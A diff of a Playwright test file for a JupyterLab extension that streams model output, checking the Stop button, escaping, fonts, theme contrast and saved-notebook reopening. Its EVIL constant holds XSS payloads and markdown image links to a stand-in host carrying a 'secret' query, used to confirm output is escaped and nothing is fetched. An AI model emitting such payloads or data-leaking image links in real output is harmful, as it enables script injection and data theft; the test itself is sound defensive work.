@@ -1,41 +1,71 @@
 """The product as a user meets it: JupyterLab in headless Chromium, clicked with the mouse."""
 
+import shutil
+
 import nbformat
 import pytest
 
-from .lab import browser, lab_server, leftovers, step
+from .lab import browser, contrasts, lab_server, leftovers, set_theme, step
 
 KERNELSPEC = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
-EVIL = '<img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script>'
+EVIL = (
+    '<img src=x onerror="window.__pwned=1"> and <script>window.__pwned=2</script>\n\n'
+    "![chart](http://evil.example/p.png?q=secret) [docs](http://evil.example/y) "
+    "<http://evil.example/auto>"
+)
+POEM = (
+    "Leaves fall slowly down\nacross the quiet water\nautumn has arrived\n\n"
+    "Rivers flow to the sea\nmountains rise above the clouds"
+)
+COPY = "Hello world. The quick brown fox. Hello world. The quick brown fox. Hello"
 
 
-def notebook(path, tiny_dir):
+def scripted_cell(name, text, delay=0.0):
+    """A cell registering a scripted model that answers ``text`` (then EOS)."""
+    return (
+        "from pathlib import Path\n"
+        "from mlx_lm.utils import load_tokenizer\n"
+        "from mlx_notebook import Engine\n"
+        "from mlx_notebook.testing import ScriptedModel, script_rule\n"
+        "tok = load_tokenizer(Path(TINY))\n"
+        f"out = tok.encode({text!r}, add_special_tokens=False) + [tok.eos_token_id]\n"
+        "n = len(tok.encode('go', add_special_tokens=False))\n"
+        f"Engine.default().register_model({name!r}, ScriptedModel(len(tok.get_vocab()), "
+        f"script_rule(n, out, tok.eos_token_id), delay_s={delay}), tok)\n'registered'"
+    )
+
+
+def notebook(path, tiny_dir, cells):
     nb = nbformat.v4.new_notebook()
     nb.metadata["kernelspec"] = KERNELSPEC
-    cells = [
-        "%load_ext mlx_notebook",
-        f"%%generate -m {tiny_dir} -n 100000 --raw -f text\nHello",
-        "1+1",
-        (
-            "from pathlib import Path\n"
-            "from mlx_lm.utils import load_tokenizer\n"
-            "from mlx_notebook import Engine\n"
-            "from mlx_notebook.testing import ScriptedModel, script_rule\n"
-            f"tok = load_tokenizer(Path({tiny_dir!r}))\n"
-            f"out = tok.encode({EVIL!r}, add_special_tokens=False) + [tok.eos_token_id]\n"
-            "n = len(tok.encode('show it', add_special_tokens=False))\n"
-            "Engine.default().register_model('evil', ScriptedModel(len(tok.get_vocab()), "
-            "script_rule(n, out, tok.eos_token_id)), tok)\n'registered'"
-        ),
-        "%%generate -m evil --raw\nshow it",
-        (
-            "import mlx_notebook\n"
-            f"panel = mlx_notebook.Panel(model={tiny_dir!r}, draft_source='lookup', "
-            "lookup_ngram=1, chat=False, max_tokens=40)\npanel"
-        ),
-    ]
+    cells = ["%load_ext mlx_notebook\nTINY = " + repr(tiny_dir), *cells]
     nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
     nbformat.write(nb, path)
+
+
+MAIN = [
+    "%%generate -m {tiny} -n 100000 --raw -f text\nHello",  # 1: stream, then Stop
+    "1+1",  # 2
+    scripted_cell("evil", EVIL),  # 3
+    "%%generate -m evil --raw\ngo",  # 4: markdown, hostile
+    scripted_cell("poet", POEM, delay=0.04),  # 5
+    "%%generate -m poet --raw -o poem\ngo",  # 6: line structure and font
+    (
+        "import mlx_notebook\n"  # 7
+        "panel = mlx_notebook.Panel(model=TINY, draft_source='lookup', "
+        "lookup_ngram=1, chat=False, max_tokens=40)\npanel"
+    ),
+]
+THEMES = [
+    scripted_cell("cycle", "the quick brown fox jumps over the lazy dog. " * 6),  # 1
+    "%%generate -m cycle --compare --lookup -k 4 --raw\ngo",  # 2: draft highlights
+    "%%generate -m {tiny} -n 30 --raw\nHello",  # 3: a markdown document
+    (
+        "import mlx_notebook\n"  # 4: a sweep chart
+        "panel = mlx_notebook.Panel(model='cycle', prompt='go', draft_source='lookup', "
+        "chat=False, max_tokens=30, sweep_from=1, sweep_to=2)\npanel.sweep()\npanel"
+    ),
+]
 
 
 def run_cell(page, i, tries=4):
@@ -54,26 +84,60 @@ def run_cell(page, i, tries=4):
     raise AssertionError(f"step 'run cell {i}' stalled: the cell never started")
 
 
+def run_done(page, i, timeout=60):
+    """Run cell ``i`` and wait until its prompt shows an execution count."""
+    cell = run_cell(page, i)
+    step(
+        f"cell {i} finished",
+        lambda: cell.locator(".jp-InputPrompt").inner_text().strip() not in ("[ ]:", "[*]:", ""),
+        timeout,
+    )
+    return cell
+
+
 @pytest.fixture
 def lab(request, tmp_path, tiny_dir, chromium, artifacts):
-    root = tmp_path / "root"
-    root.mkdir()
-    notebook(root / "demo.ipynb", tiny_dir)
-    with lab_server(root) as (base, token), browser() as b:
+    """``lab(cells)`` opens a notebook of those cells; yields the page."""
+    ctx = {}
+
+    def start(cells, kernel=True, prepare=None):
+        root = tmp_path / "root"
+        root.mkdir(exist_ok=True)
+        if prepare is not None:
+            prepare(root)
+        else:
+            notebook(root / "demo.ipynb", tiny_dir, [c.replace("{tiny}", tiny_dir) for c in cells])
+        ctx["server"] = lab_server(root)
+        base, token = ctx["server"].__enter__()
+        ctx["browser"] = browser()
+        b = ctx["browser"].__enter__()
         page = b.new_page(viewport={"width": 1400, "height": 1000})
         page.set_default_timeout(30_000)
+        page.requests = []
+        page.on("request", lambda r: page.requests.append(r.url))
         page.goto(f"{base}/lab/tree/demo.ipynb?token={token}")
-        step("open the notebook", lambda: page.locator(".jp-Notebook .jp-Cell").count() == 6, 90)
-        step(
-            "kernel ready",
-            lambda: page.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']").count() > 0,
-            90,
-        )
+        n = len(nbformat.read(root / "demo.ipynb", as_version=4).cells)
+        step("open the notebook", lambda: page.locator(".jp-Notebook .jp-Cell").count() == n, 90)
+        if kernel:
+            step(
+                "kernel ready",
+                lambda: (
+                    page.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']").count() > 0
+                ),
+                90,
+            )
         dismiss_news(page)
-        yield page
-        rep = getattr(request.node, "rep_call", None)
-        if rep is not None and rep.failed:
-            page.screenshot(path=str(artifacts / f"failure-{request.node.name}.png"))
+        ctx["page"] = page
+        return page
+
+    yield start
+    rep = getattr(request.node, "rep_call", None)
+    if "page" in ctx and rep is not None and rep.failed:
+        ctx["page"].screenshot(path=str(artifacts / f"failure-{request.node.name}.png"))
+    if "browser" in ctx:
+        ctx["browser"].__exit__(None, None, None)
+    if "server" in ctx:
+        ctx["server"].__exit__(None, None, None)
 
 
 def dismiss_news(page):
@@ -84,37 +148,39 @@ def dismiss_news(page):
         pass
 
 
-def view_state(view):
-    return view.locator(".mlxnb .state").first.inner_text()
+def state_word(scope):
+    return scope.locator(".mlxnb .state").first.inner_text()
 
 
 def test_generate_stream_stop_and_escaping(lab, artifacts):
-    page = lab
-    load = run_cell(page, 0)
-    step(
-        "%load_ext finished",
-        lambda: load.locator(".jp-InputPrompt").inner_text().strip() not in ("[ ]:", "[*]:", ""),
-        60,
-    )
+    page = lab(MAIN)
+    run_done(page, 0)
 
     cell = run_cell(page, 1)
     view = cell.locator(".mlxnb-view")
     step("view rendered (widget manager loaded)", lambda: view.count() == 1, 60)
     step(
         "streamed text visible",
-        lambda: view_state(view) == "generating" and len(view.locator(".txt").inner_text()) > 200,
+        lambda: state_word(view) == "generating" and len(view.locator(".txt").inner_text()) > 200,
         60,
     )
+    stop = view.get_by_role("button", name="Stop")
+
+    def boxes():  # the header node is replaced at every refresh: read both at once
+        pair = stop.bounding_box(), view.locator(".hdr").bounding_box()
+        return pair if None not in pair else None
+
+    box, hdr = step("measure the Stop button", boxes, 10, 0.05)
+    assert box["width"] < 120 and abs(box["y"] - hdr["y"]) < 20  # compact, beside the header
     page.screenshot(path=str(artifacts / "streaming.png"), full_page=False)
 
-    view.get_by_role("button", name="Stop").click()  # with the mouse, as a user would
-    step("view shows stopped", lambda: view_state(view) == "stopped", 30)
-    partial = view.locator(".txt").inner_text()
-    assert len(partial) > 200
-    button = view.locator("button")
-    step("Stop button disabled", lambda: button.is_disabled(), 10)
-    assert "Stopped" in button.inner_text()
-    assert "cancelled" in view.locator(".stats").inner_text()
+    stop.click()  # with the mouse, as a user would
+    out = cell.locator(".jp-OutputArea-output")
+    step("the output becomes the stopped document", lambda: state_word(out) == "stopped", 30)
+    step("no widget left", lambda: cell.locator(".mlxnb-view").count() == 0, 10)
+    assert out.locator("button").count() == 0  # only the state word remains
+    assert len(out.locator(".txt").inner_text()) > 200  # the partial text is kept
+    assert "cancelled" in out.locator(".stats").inner_text()
     page.screenshot(path=str(artifacts / "stopped.png"), full_page=False)
 
     follow = run_cell(page, 2)
@@ -124,38 +190,111 @@ def test_generate_stream_stop_and_escaping(lab, artifacts):
         20,
     )
 
-    reg = run_cell(page, 3)
-    step(
-        "scripted model registered",
-        lambda: "registered" in reg.locator(".jp-OutputArea-output").inner_text(),
-        30,
-    )
+    run_done(page, 3, 30)
     evil = run_cell(page, 4)
-    ev = evil.locator(".mlxnb-view")
-    step("scripted output finished", lambda: ev.count() == 1 and view_state(ev) == "done", 30)
-    shown = ev.locator(".mlxnb").inner_text()
+    step("hostile output finished", lambda: "done" in state_word(evil), 30)
+    shown = evil.locator(".mlxnb").inner_text()
     assert '<img src=x onerror="window.__pwned=1">' in shown and "<script>" in shown
-    assert ev.locator(".mlxnb img, .mlxnb script").count() == 0
+    assert "[image: chart <http://evil.example/p.png?q=secret>]" in shown
+    assert "docs <http://evil.example/y>" in shown
+    loaders = ".mlxnb img, .mlxnb script, .mlxnb iframe, .mlxnb video, .mlxnb a, .mlxnb object"
+    assert evil.locator(loaders).count() == 0
     assert page.evaluate("() => window.__pwned") is None
-    ev.scroll_into_view_if_needed()
+    assert not [u for u in page.requests if "evil.example" in u]  # nothing was fetched
+    evil.scroll_into_view_if_needed()
     page.screenshot(path=str(artifacts / "escaped.png"), full_page=False)
 
 
+def test_line_breaks_and_font_survive_the_end_of_generation(lab):
+    page = lab(MAIN)
+    run_done(page, 0)
+    run_done(page, 5, 30)
+    cell = run_cell(page, 6)
+    view = cell.locator(".mlxnb-view")
+    step("poem streaming", lambda: view.count() == 1 and "\n" in view.locator(".md").inner_text())
+    font = "e => e.isConnected ? getComputedStyle(e).fontFamily : ''"
+    live_font = step("font while streaming", lambda: view.locator(".md").evaluate(font), 10, 0.05)
+    out = cell.locator(".jp-OutputArea-output")
+    step("poem done", lambda: not cell.locator(".mlxnb-view").count() and "done" in state_word(out))
+    md = out.locator(".md")
+    assert md.evaluate(font) == live_font
+    rendered = [line.strip() for line in md.inner_text().split("\n")]
+    assert rendered == [line.strip() for line in POEM.split("\n")]
+
+
+@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
+def test_contrast_in_light_and_dark_themes(lab, artifacts, theme):
+    page = lab(THEMES)
+    set_theme(page, theme)
+    run_done(page, 0)
+    run_done(page, 1, 30)
+    compare = run_cell(page, 2).locator(".jp-OutputArea-output")
+    step("compare document", lambda: "identical text" in compare.inner_text(), 90)
+    doc = run_cell(page, 3).locator(".jp-OutputArea-output")
+    step("markdown document", lambda: "done" in state_word(doc), 60)
+    panel = run_cell(page, 4)
+    step("sweep chart", lambda: panel.locator(".mlxnb-chart text").count() > 5, 120)
+    slug = theme.split()[-1].lower()
+    checks = {
+        "generated text": ".mlxnb-compare .txt, .mlxnb .md p",
+        "accepted draft token": ".mlxnb-compare .draft",
+        "header": ".mlxnb .hdr",
+        "stats": ".mlxnb .stats",
+        "verdict": ".mlxnb-compare .verdict",
+        "chart axis text": ".mlxnb-chart text",
+    }
+    for what, sel in checks.items():
+        ratios = contrasts(page, sel)
+        assert ratios, f"nothing matched for {what} ({sel})"
+        assert min(ratios) >= 4.5, (theme, what, min(ratios))
+    compare.scroll_into_view_if_needed()
+    page.screenshot(path=str(artifacts / f"theme-{slug}-compare.png"), full_page=False)
+    panel.locator(".mlxnb-chart").scroll_into_view_if_needed()
+    page.screenshot(path=str(artifacts / f"theme-{slug}-chart.png"), full_page=False)
+
+
+def test_saved_notebook_reopens_without_a_kernel(lab, tmp_path, tiny_dir, artifacts):
+    from saved_notebook import execute
+
+    texts = {}
+
+    def prepare(root):
+        nb, found = execute(tiny_dir, root / "demo.ipynb")
+        texts.update(found)
+        nb.metadata["kernelspec"] = {"name": "mlxnb-no-such-kernel", "display_name": "none"}
+        nbformat.write(nb, root / "demo.ipynb")
+
+    page = lab(None, kernel=False, prepare=prepare)
+    try:  # JupyterLab asks which kernel to use: keep none
+        page.get_by_role("button", name="No Kernel").click(timeout=10_000)
+    except Exception:
+        page.keyboard.press("Escape")
+    shown = page.locator(".jp-Notebook")
+    step("outputs rendered", lambda: shown.locator(".jp-OutputArea-output").count() >= 6, 30)
+    body = shown.inner_text()
+    assert "Error displaying widget" not in body
+    for name, text in texts.items():
+        probe = "".join(c for c in text if c.isprintable() and not c.isspace())[:40]
+        flat = "".join(c for c in body if c.isprintable() and not c.isspace())
+        assert probe and probe in flat, name
+    page.screenshot(path=str(artifacts / "saved-reopened.png"), full_page=True)
+
+
 def test_panel_compare(lab, artifacts):
-    page = lab
-    run_cell(page, 0)
-    cell = run_cell(page, 5)
+    page = lab(MAIN)
+    run_done(page, 0)
+    cell = run_cell(page, 7)
     panel = cell.locator(".mlxnb-panel")
     step("panel rendered", lambda: panel.count() == 1, 60)
     prompt = panel.locator("textarea").first
     prompt.click()
-    prompt.fill("Hello world. The quick brown fox. Hello world. The quick brown fox. Hello")
+    prompt.fill(COPY)
     panel.get_by_role("button", name="Compare").click()
     verdict = panel.locator(".mlxnb-compare")
     step("both columns and the verdict", lambda: "identical text" in verdict.inner_text(), 90)
     text = verdict.inner_text()
     assert "speedup" in text and "×" in text
-    assert verdict.locator("td").count() == 2
+    assert verdict.locator(".col").count() == 2
     verdict.scroll_into_view_if_needed()
     page.screenshot(path=str(artifacts / "panel_compare.png"), full_page=False)
 
@@ -163,7 +302,7 @@ def test_panel_compare(lab, artifacts):
 def test_server_and_kernels_are_torn_down(tmp_path, tiny_dir, chromium):
     root = tmp_path / "root"
     root.mkdir()
-    notebook(root / "demo.ipynb", tiny_dir)
+    notebook(root / "demo.ipynb", tiny_dir, MAIN)
     state = tmp_path / "root-jupyter"
     with lab_server(root) as (base, token), browser() as b:
         page = b.new_page()
@@ -174,3 +313,4 @@ def test_server_and_kernels_are_torn_down(tmp_path, tiny_dir, chromium):
             90,
         )
     assert leftovers(state) == []
+    shutil.rmtree(root, ignore_errors=True)
